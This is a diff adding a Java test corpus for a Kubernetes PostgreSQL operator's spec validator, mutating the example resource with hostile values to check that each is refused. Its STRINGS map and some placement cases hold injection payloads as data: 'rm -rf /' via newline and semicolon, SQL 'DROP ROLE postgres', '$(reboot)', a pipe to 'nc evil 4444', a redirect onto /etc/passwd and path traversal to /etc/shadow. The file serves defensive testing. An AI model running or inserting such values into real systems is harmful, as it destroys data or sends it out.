@@ -1,0 +1,344 @@
+package io.pks.operator.validation;
+
+import java.math.BigInteger;
+import java.util.ArrayList;
+import java.util.LinkedHashMap;
+import java.util.List;
+import java.util.Map;
+import java.util.Set;
+import java.util.function.Consumer;
+
+import com.fasterxml.jackson.databind.JsonNode;
+import com.fasterxml.jackson.databind.node.ArrayNode;
+import com.fasterxml.jackson.databind.node.JsonNodeFactory;
+import com.fasterxml.jackson.databind.node.ObjectNode;
+
+import io.pks.operator.TestPairs;
+import io.pks.operator.api.v1alpha1.SpecRules;
+
+/**
+ * The hostile corpus (issue 7): the example resource mutated field by field with hostile values,
+ * each case naming the field its message must name. Generated, so a new field or value is one line.
+ */
+public final class HostileSpecs {
+  private HostileSpecs() {
+  }
+
+  private static final JsonNodeFactory JSON = JsonNodeFactory.instance;
+
+  /**
+   * Cases only the operator refuses: comparing quantities takes Kubernetes' CEL quantity library,
+   * which cel-java lacks. The API server refuses the StatefulSet instead; the operator refuses
+   * first, so nothing is half changed.
+   */
+  public static final Set<String> BEYOND_CEL = Set.of("request above limit");
+
+  /**
+   * Strings an attacker or a slip of the keyboard puts anywhere: configuration and SQL syntax,
+   * shell and kubelet expansion, option injection, control characters, lookalikes, sizes.
+   */
+  public static final Map<String, String> STRINGS = strings();
+
+  private static Map<String, String> strings() {
+    Map<String, String> strings = new LinkedHashMap<>();
+    strings.put("newline", "site-a\narchive_command = 'rm -rf /'");
+    strings.put("carriage return", "x\rhost all all all trust");
+    strings.put("NUL", "x\u0000y");
+    strings.put("escape", "x\u001b[2Jy");
+    strings.put("single quote", "it's");
+    strings.put("double quote", "say \"hi\"");
+    strings.put("hash", "x # comment");
+    strings.put("DROP ROLE", "'; DROP ROLE postgres; --");
+    strings.put("identifier breakout", "x\"; DROP ROLE postgres; --");
+    strings.put("command substitution", "$(reboot)");
+    strings.put("backticks", "`id`");
+    strings.put("semicolon", "a; rm -rf /");
+    strings.put("pipe", "a | nc evil 4444");
+    strings.put("redirect", "a > /etc/passwd");
+    strings.put("kubelet expansion", "$(PKS_REPLICATION_SECRET_DIR)");
+    strings.put("leading dash", "-h");
+    strings.put("glob", "*");
+    strings.put("path traversal", "../../etc/shadow");
+    strings.put("backslash", "a\\");
+    strings.put("lookalike", "s\u0456te-a");
+    strings.put("empty", "");
+    strings.put("huge", "a".repeat(100_000));
+    return strings;
+  }
+
+  /**
+   * The hostile strings the validator accepts as free text (a parameter's value), which must then
+   * reach postgresql.conf quoted.
+   */
+  public static Map<String, String> acceptedAsFreeText() {
+    Map<String, String> accepted = new LinkedHashMap<>();
+    STRINGS.forEach((label, value) -> {
+      if (SpecValidator.validate(TestPairs.example(json -> TestPairs.spec(json).with("postgres").with("parameters")
+          .put("log_line_prefix", value)), AppliedState.NONE).isEmpty()) {
+        accepted.put(label, value);
+      }
+    });
+    return accepted;
+  }
+
+  /** Strings with a format (names, sizes, selectors, enums as strings): every hostile string is refused. */
+  private static final Map<String, String> FORMATTED_FIELDS = formattedFields();
+
+  private static Map<String, String> formattedFields() {
+    Map<String, String> fields = new LinkedHashMap<>();
+    for (String path : List.of("members[1].name", "primary", "postgres.image", "postgres.storage.size",
+        "postgres.storage.storageClassName", "postgres.superuserSecret", "replication.user",
+        "replication.passwordSecret", "replication.walKeepSize", "replication.maxSlotWalKeepSize",
+        "replication.allowedCidrs[0]", "sip.siteLabel", "sip.active", "sip.service.type",
+        "sip.service.ports[0].name", "sip.service.ports[0].protocol", "networkPolicy.operatorNamespace",
+        "replication.tls.certificateSecret")) {
+      fields.put(path, "spec." + path);
+    }
+    fields.put("members[0].nodeSelector.topology\\.kubernetes\\.io/zone",
+        "spec.members[0].nodeSelector.topology.kubernetes.io/zone");
+    fields.put("sip.podSelector.app\\.kubernetes\\.io/name", "spec.sip.podSelector.app.kubernetes.io/name");
+    fields.put("networkPolicy.applicationSelector.app", "spec.networkPolicy.applicationSelector.app");
+    fields.put("networkPolicy.operatorSelector.app", "spec.networkPolicy.operatorSelector.app");
+    return fields;
+  }
+
+  private static final List<String> INTEGER_FIELDS = List.of("postgres.port", "replication.connectionLimit",
+      "replication.maxWalSenders", "failover.primaryUnavailableSeconds", "sip.service.ports[0].port");
+  private static final List<String> BOOLEAN_FIELDS = List.of("replication.slot", "failover.allowDataLoss",
+      "networkPolicy.enabled");
+  private static final List<String> ENUM_FIELDS = List.of("replication.synchronous", "failover.mode",
+      "deletionPolicy");
+
+  public static List<SpecCase> all() {
+    List<SpecCase> cases = new ArrayList<>();
+    FORMATTED_FIELDS.forEach((path, field) -> STRINGS.forEach((label, value) -> {
+      // An empty label value is a label value.
+      if (!(path.contains("Selector") && value.isEmpty())) {
+        cases.add(invalid(path + " " + label, spec -> set(spec, path, JSON.textNode(value)), field, null));
+      }
+    }));
+    for (String path : List.of("postgres.parameters.work_mem", "replication.archiveCommand")) {
+      for (String label : List.of("newline", "carriage return", "NUL", "escape", "huge")) {
+        cases.add(invalid(path + " " + label, spec -> set(spec, path, JSON.textNode(STRINGS.get(label))),
+            "spec." + path, null));
+      }
+    }
+    cases.add(invalid("replication.archiveCommand blank",
+        spec -> set(spec, "replication.archiveCommand", JSON.textNode(" \t")),
+        "spec.replication.archiveCommand", "non-empty"));
+    STRINGS.forEach((label, value) -> cases.add(invalid("parameter name " + label,
+        spec -> spec.with("postgres").with("parameters").put(value, "on"), "spec.postgres.parameters", null)));
+    integers(cases);
+    wrongTypes(cases, BOOLEAN_FIELDS, "true or false",
+        List.of(JSON.textNode("true"), JSON.textNode("yes"), JSON.numberNode(1), JSON.arrayNode()));
+    wrongTypes(cases, ENUM_FIELDS, "must be one of", List.of(JSON.textNode("Sometimes"), JSON.textNode("off"),
+        JSON.textNode(""), JSON.numberNode(0), JSON.textNode("Required; DROP ROLE postgres")));
+    parameters(cases);
+    structure(cases);
+    placement(cases);
+    sip(cases);
+    immutable(cases);
+    return cases;
+  }
+
+  private static void integers(List<SpecCase> cases) {
+    for (String path : INTEGER_FIELDS) {
+      for (long value : List.of(0L, -1L, 65_536L, (long) Integer.MAX_VALUE)) {
+        cases.add(invalid(path + " " + value, spec -> set(spec, path, JSON.numberNode(value)), "spec." + path,
+            "must be between"));
+      }
+    }
+    wrongTypes(cases, INTEGER_FIELDS, "an integer", List.of(JSON.textNode("5432"), JSON.textNode("abc"),
+        JSON.numberNode(1.5), JSON.numberNode(1e30), JSON.booleanNode(true), JSON.objectNode()));
+    for (String path : INTEGER_FIELDS) {
+      cases.add(invalid(path + " beyond 32 bits",
+          spec -> set(spec, path, JSON.numberNode(new BigInteger("9".repeat(40)))),
+          "spec." + path, "out of range"));
+    }
+  }
+
+  private static void wrongTypes(List<SpecCase> cases, List<String> paths, String problem, List<JsonNode> values) {
+    for (String path : paths) {
+      for (JsonNode value : values) {
+        cases.add(invalid(path + " " + value, spec -> set(spec, path, value), "spec." + path, problem));
+      }
+    }
+  }
+
+  private static void parameters(List<SpecCase> cases) {
+    List<String> owned = new ArrayList<>(SpecRules.OWNED_PARAMETERS);
+    owned.addAll(List.of("ssl", "ssl_ciphers", "ssl_min_protocol_version", "recovery_target_time"));
+    for (String name : owned) {
+      cases.add(invalid("owned parameter " + name, parameter(name, "x"), "spec.postgres.parameters." + name,
+          "set by the operator"));
+    }
+    for (String name : List.of("shared_bufers", "max_connection", "archive_commands", "log_statment", "fsynch")) {
+      cases.add(invalid("unknown parameter " + name, parameter(name, "on"), "spec.postgres.parameters",
+          "not a PostgreSQL setting"));
+    }
+    cases.add(invalid("parameter value a number", spec -> spec.with("postgres").with("parameters")
+        .put("max_connections", 200), "spec.postgres.parameters.max_connections", "a string"));
+    cases.add(invalid("parameter value an object", spec -> spec.with("postgres").with("parameters")
+        .putObject("max_connections").put("value", "200"), "spec.postgres.parameters.max_connections", "a string"));
+    cases.add(invalid("parameters a list", spec -> spec.with("postgres").putArray("parameters").add("fsync=off"),
+        "spec.postgres.parameters", "an object"));
+  }
+
+  private static Consumer<ObjectNode> parameter(String name, String value) {
+    return spec -> spec.with("postgres").with("parameters").put(name, value);
+  }
+
+  private static void structure(List<SpecCase> cases) {
+    cases.add(invalid("no spec", spec -> { }, "spec", "is required").withoutSpec());
+    cases.add(invalid("spec a string", spec -> { }, "spec", "an object").withSpec(JSON.textNode("site-a")));
+    cases.add(invalid("spec a list", spec -> { }, "spec", "an object").withSpec(JSON.arrayNode()));
+    cases.add(invalid("no members", spec -> spec.remove("members"), "spec.members", "exactly two"));
+    cases.add(invalid("members empty", spec -> spec.putArray("members"), "spec.members", "exactly two"));
+    cases.add(invalid("members a string", spec -> spec.put("members", "site-a,site-b"), "spec.members", "a list"));
+    cases.add(invalid("members an object", spec -> spec.putObject("members").put("name", "site-a"),
+        "spec.members", "a list"));
+    cases.add(invalid("members as strings", spec -> spec.putArray("members").add("site-a").add("site-b"),
+        "spec.members[0]", "an object"));
+    cases.add(invalid("a null member", spec -> members(spec).set(1, JSON.nullNode()), "spec.members[1]",
+        "an object"));
+    cases.add(invalid("four members", spec -> {
+      members(spec).addObject().put("name", "site-c");
+      members(spec).addObject().put("name", "site-d");
+    }, "spec.members", "exactly two"));
+    cases.add(invalid("member without name", spec -> ((ObjectNode) members(spec).get(1)).remove("name"),
+        "spec.members[1].name", "is required"));
+    cases.add(invalid("member name null", spec -> ((ObjectNode) members(spec).get(1)).putNull("name"),
+        "spec.members[1].name", "is required"));
+    cases.add(invalid("primary in capitals", spec -> spec.put("primary", "SITE-A"), "spec.primary",
+        "must name one of"));
+    for (String path : List.of("", "postgres", "postgres.storage", "replication", "failover", "sip", "sip.service",
+        "members[0]", "sip.service.ports[0]", "networkPolicy", "replication.tls")) {
+      String parent = path.isEmpty() ? "spec" : "spec." + path;
+      cases.add(invalid("unknown field in " + parent, spec -> set(spec, (path.isEmpty() ? "" : path + ".")
+          + "replicas", JSON.numberNode(3)), parent + ".replicas", "not a field"));
+    }
+    cases.add(invalid("TLS without its Secret", spec -> spec.with("replication").putObject("tls"),
+        "spec.replication.tls.certificateSecret", "is required"));
+    cases.add(invalid("TLS a string", spec -> spec.with("replication").put("tls", "on"),
+        "spec.replication.tls", "an object"));
+    cases.add(invalid("misspelt synchronous", spec -> spec.with("replication").put("synchronus", "Required"),
+        "spec.replication.synchronus", "not a field"));
+  }
+
+  private static void placement(List<SpecCase> cases) {
+    String resources = "spec.postgres.resources";
+    cases.add(invalid("cpu request in words", spec -> spec.with("postgres").with("resources").with("requests")
+        .put("cpu", "lots"), resources + ".requests.cpu", "quantity"));
+    cases.add(invalid("negative memory limit", spec -> spec.with("postgres").with("resources").with("limits")
+        .put("memory", "-2Gi"), resources + ".limits.memory", "quantity"));
+    cases.add(invalid("request above limit", spec -> spec.with("postgres").with("resources").with("requests")
+        .put("memory", "4Gi"), resources + ".requests.memory", "must not exceed"));
+    cases.add(invalid("resource name with a semicolon", spec -> spec.with("postgres").with("resources")
+        .with("requests").put("cpu; rm -rf /", "1"), resources + ".requests", "not a resource name"));
+    cases.add(invalid("misspelt requests", spec -> spec.with("postgres").with("resources").with("request")
+        .put("cpu", "1"), resources + ".request", "not a field"));
+    cases.add(invalid("resources a string", spec -> spec.with("postgres").put("resources", "large"),
+        resources, "an object"));
+    cases.add(invalid("resource claims", spec -> spec.with("postgres").with("resources").putArray("claims")
+        .addObject().put("name", "gpu"), resources + ".claims", "not supported"));
+    String member = "spec.members[0]";
+    cases.add(invalid("toleration operator", spec -> toleration(spec).put("operator", "Sometimes"),
+        member + ".tolerations[0].operator", "Exists or Equal"));
+    cases.add(invalid("toleration effect", spec -> toleration(spec).put("effect", "Evict"),
+        member + ".tolerations[0].effect", "NoSchedule"));
+    cases.add(invalid("toleration key", spec -> toleration(spec).put("key", "a b"),
+        member + ".tolerations[0].key", "label key"));
+    cases.add(invalid("tolerations a string", spec -> ((ObjectNode) members(spec).get(0)).put("tolerations", "all"),
+        member + ".tolerations", "a list"));
+    cases.add(invalid("affinity misspelt", spec -> ((ObjectNode) members(spec).get(0)).putObject("affinity")
+        .putObject("nodeAfinity"), member + ".affinity.nodeAfinity", "not a field"));
+    cases.add(invalid("node selector key", spec -> ((ObjectNode) members(spec).get(0)).with("nodeSelector")
+        .put("zone; rm", "x"), member + ".nodeSelector", "not a valid label key"));
+    cases.add(invalid("node selector value a number", spec -> ((ObjectNode) members(spec).get(0))
+        .with("nodeSelector").put("zone", 1), member + ".nodeSelector.zone", "a string"));
+  }
+
+  private static ObjectNode toleration(ObjectNode spec) {
+    return ((ObjectNode) members(spec).get(0)).putArray("tolerations").addObject().put("key", "dedicated");
+  }
+
+  private static void sip(List<SpecCase> cases) {
+    cases.add(invalid("SIP site naming no member", spec -> spec.with("sip").put("active", "site-c"),
+        "spec.sip.active", "FollowPrimary or name one of"));
+    cases.add(invalid("SIP selector key", spec -> spec.with("sip").with("podSelector").put("app name", "x"),
+        "spec.sip.podSelector", "not a valid label key"));
+    cases.add(invalid("SIP port null", spec -> ports(spec).set(1, JSON.nullNode()), "spec.sip.service.ports[1]",
+        "an object"));
+    cases.add(invalid("SIP port without number", spec -> ((ObjectNode) ports(spec).get(1)).remove("port"),
+        "spec.sip.service.ports[1].port", "is required"));
+    cases.add(invalid("SIP ports an object", spec -> spec.with("sip").with("service").putObject("ports")
+        .put("sip", 5060), "spec.sip.service.ports", "a list"));
+  }
+
+  private static ArrayNode ports(ObjectNode spec) {
+    return (ArrayNode) spec.with("sip").with("service").get("ports");
+  }
+
+  /** Updates of the example (its objects in place): immutable fields changed. */
+  private static void immutable(List<SpecCase> cases) {
+    cases.add(SpecCase.changed("standby member renamed", spec -> ((ObjectNode) members(spec).get(1))
+        .put("name", "site-c"), "spec.members", "immutable"));
+    cases.add(SpecCase.changed("primary member renamed", spec -> {
+      ((ObjectNode) members(spec).get(0)).put("name", "site-c");
+      spec.put("primary", "site-c");
+    }, "spec.members", "immutable"));
+    cases.add(SpecCase.changed("members swapped for new ones", spec -> {
+      spec.putArray("members").addObject().put("name", "east");
+      members(spec).addObject().put("name", "west");
+      spec.put("primary", "east");
+    }, "spec.members", "immutable"));
+    cases.add(SpecCase.changed("storage class set", spec -> spec.with("postgres").with("storage")
+        .put("storageClassName", "fast"), "spec.postgres.storage.storageClassName", "immutable"));
+    cases.add(SpecCase.changed("one member dropped", spec -> members(spec).remove(1), "spec.members",
+        "exactly two"));
+  }
+
+  private static ArrayNode members(ObjectNode spec) {
+    return (ArrayNode) spec.get("members");
+  }
+
+  private static SpecCase invalid(String name, Consumer<ObjectNode> edit, String field, String problem) {
+    return SpecCase.invalid(name, edit, field, problem);
+  }
+
+  /**
+   * Sets {@code value} at {@code path} under spec, creating objects on the way: dots separate
+   * fields ({@code \.} is a dot inside a key), {@code [i]} indexes a list, which is created with
+   * one object (or value) when absent.
+   */
+  static void set(ObjectNode spec, String path, JsonNode value) {
+    String[] steps = path.split("(?<!\\\\)\\.");
+    JsonNode node = spec;
+    for (int i = 0; i < steps.length; i++) {
+      String step = steps[i].replace("\\.", ".");
+      boolean last = i == steps.length - 1;
+      int bracket = step.indexOf('[');
+      String key = bracket < 0 ? step : step.substring(0, bracket);
+      ObjectNode object = (ObjectNode) node;
+      if (bracket < 0) {
+        if (last) {
+          object.set(key, value);
+          return;
+        }
+        node = object.has(key) && object.get(key).isObject() ? object.get(key) : object.putObject(key);
+      } else {
+        int index = Integer.parseInt(step.substring(bracket + 1, step.length() - 1));
+        ArrayNode array = object.has(key) && object.get(key).isArray() ? (ArrayNode) object.get(key)
+            : object.putArray(key);
+        while (array.size() <= index) {
+          array.add(last ? JSON.nullNode() : JSON.objectNode());
+        }
+        if (last) {
+          array.set(index, value);
+          return;
+        }
+        node = array.get(index);
+      }
+    }
+  }
+}
